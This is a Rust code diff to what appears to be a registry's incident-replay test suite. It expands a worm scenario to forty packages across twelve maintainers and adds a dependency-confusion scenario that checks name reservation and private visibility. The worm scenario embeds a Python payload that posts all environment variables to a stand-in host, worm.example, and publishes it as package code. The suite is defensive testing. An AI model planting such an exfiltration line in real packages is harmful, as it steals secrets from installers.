@@ -1,5 +1,7 @@
 //! Incidents that really happened, played with canaries: the attacker's steps, and the controls that must answer.
 
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD;
 use serde_json::{Value, json};
 
 use super::accounts::somebody_with_codes;
@@ -62,6 +64,12 @@ pub const SCENARIOS: &[Scenario] = &[
         name: "ex-member",
         after: "a role kept after leaving, 2025",
         play: ex_member,
+    },
+    Scenario {
+        id: "D10",
+        name: "dependency-confusion",
+        after: "public packages of private names, since 2021",
+        play: confusion,
     },
     Scenario {
         id: "D11",
@@ -402,13 +410,26 @@ fn leaked(play: &mut Play<'_>) -> Told<()> {
     Ok(())
 }
 
+/// The maintainers whom a worm meets.
+const MAINTAINERS: [&str; 12] = [
+    "ann", "bob", "cem", "dee", "eli", "fay", "gus", "hal", "ida", "jon", "kim", "lou",
+];
+
+/// Their packages: forty in all.
+fn packages_of(at: usize) -> &'static [&'static str] {
+    let words = &["one", "two", "three", "four"];
+    if at < 4 { words } else { &words[..3] }
+}
+
 fn worm(play: &mut Play<'_>) -> Told<()> {
     let mut victims = Vec::new();
-    for who in ["ann", "bob", "cem", "dee"] {
+    let mut packages = Vec::new();
+    for (at, who) in MAINTAINERS.into_iter().enumerate() {
         let (visitor, token) = owner(&mut play.script, who)?;
-        for word in ["one", "two", "three"] {
+        for word in packages_of(at) {
             let name = project(&play.script, &format!("{who}-{word}"));
             must(&mut play.script, &Wheel::new(&name, "1.0", "a = 1"), &token)?;
+            packages.push((name, at));
         }
         victims.push((who, visitor, token));
     }
@@ -417,14 +438,11 @@ fn worm(play: &mut Play<'_>) -> Told<()> {
     };
     play.script.world(World::Turn(60))?;
     let began = since(play);
-    play.attack("a worm publishes with the tokens of four maintainers, one after the other, what steals the next one's");
+    play.attack("a worm publishes in forty packages of twelve maintainers, with the tokens of each, what steals the next one's");
     let text = "import os, urllib.request\nurllib.request.urlopen('https://worm.example/', data=str(dict(os.environ)).encode())";
-    for (who, _, token) in &victims {
-        for word in ["one", "two", "three"] {
-            let name = project(&play.script, &format!("{who}-{word}"));
-            let next = Wheel::new(&name, "1.1", text);
-            next.publish(&mut play.script, token)?;
-        }
+    for (name, owner) in &packages {
+        let next = Wheel::new(name, "1.1", text);
+        next.publish(&mut play.script, &victims[*owner].2)?;
     }
     play.scene("operator", "stops all publishing, with a word to everybody");
     play.operator(&[
@@ -456,7 +474,7 @@ fn worm(play: &mut Play<'_>) -> Told<()> {
         Milestone::Revoke,
         "the operator",
         "every token is ended at once",
-        tokens >= 4,
+        tokens >= 12,
     );
     let told = play
         .script
@@ -472,18 +490,15 @@ fn worm(play: &mut Play<'_>) -> Told<()> {
         rewind(play, &format!("user:{}", visitor.name), &began)?;
     }
     let mut left = 0;
-    for (who, ..) in &victims {
-        for word in ["one", "two", "three"] {
-            let name = project(&play.script, &format!("{who}-{word}"));
-            if installs(&mut play.script, &name, "1.1")? {
-                left += 1;
-            }
+    for (name, _) in &packages {
+        if installs(&mut play.script, name, "1.1")? {
+            left += 1;
         }
     }
     play.control(
         Milestone::Quarantine,
         "the operator",
-        "none of twelve bad releases is offered",
+        "none of forty bad releases is offered",
         left == 0,
     );
     play.operator(&["incident", "unfreeze", "registry"])?;
@@ -772,6 +787,79 @@ fn ex_member(play: &mut Play<'_>) -> Told<()> {
         "the registry",
         "what was published before stays",
         good,
+    );
+    Ok(())
+}
+
+fn confusion(play: &mut Play<'_>) -> Told<()> {
+    let (mut ann, token) = owner(&mut play.script, "ann")?;
+    let (_, mallory) = owner(&mut play.script, "mallory")?;
+    let firm = format!("firm-{}", ann.name);
+    ann.get(&mut play.script, "/account/projects")?;
+    let fields = [("name", firm.as_str()), ("display", "A firm")];
+    ann.post(&mut play.script, "/account/organisations", &fields)?;
+    let prefix = project(&play.script, "firm");
+    play.scene("operator", "reserves the firm's names for it");
+    play.operator(&[
+        "admin",
+        "namespace",
+        "reserve",
+        &prefix,
+        "--organisation",
+        &firm,
+    ])?;
+    let inner = format!("{prefix}-inner");
+    let own = Wheel::new(&inner, "1.0", "a = 1");
+    must(&mut play.script, &own, &token)?;
+    play.operator(&["admin", "project", "visibility", &inner, "private"])?;
+    play.attack(
+        "publishes 99.0 of a private package's name, and of one that the firm has elsewhere",
+    );
+    let over = Wheel::new(&inner, "99.0", "import os").publish(&mut play.script, &mallory)?;
+    play.control(
+        Milestone::Refuse,
+        "the registry",
+        "nobody else publishes under the private package's name",
+        over.refused(),
+    );
+    let other = format!("{prefix}-elsewhere");
+    let founded = Wheel::new(&other, "99.0", "import os").publish(&mut play.script, &mallory)?;
+    let told = founded.refused() && founded.text().contains(&firm);
+    play.control(
+        Milestone::Refuse,
+        "the registry",
+        "nor under a name of the firm's that is free, and is told whose it is",
+        told,
+    );
+    let asked = play.script.get(&format!("/pypi/simple/{inner}/"))?.status;
+    play.control(
+        Milestone::Refuse,
+        "the registry",
+        "to strangers the private package is not there",
+        asked == 404,
+    );
+    let basic = STANDARD.encode(format!("__token__:{token}"));
+    let request = Request::get(
+        play.script
+            .target
+            .address(&format!("/pypi/simple/{inner}/")),
+    )
+    .header("accept", "application/vnd.pypi.simple.v1+json")
+    .header("authorization", format!("Basic {basic}"));
+    let page = play.script.http(request)?.text();
+    play.control(
+        Milestone::Restore,
+        "the registry",
+        "its people are offered their own release alone; no other registry is asked, so none can be out of reach",
+        page.contains("-1.0-") && !page.contains("-99.0-"),
+    );
+    let opinion = play.operator(&["--json", "admin", "names", "check", &other])?;
+    let opinion: Value = serde_json::from_str(&opinion).unwrap_or_default();
+    play.control(
+        Milestone::Detect,
+        "the operator",
+        "a look at the name says that nobody else gets it",
+        opinion["verdict"] == "refused",
     );
     Ok(())
 }
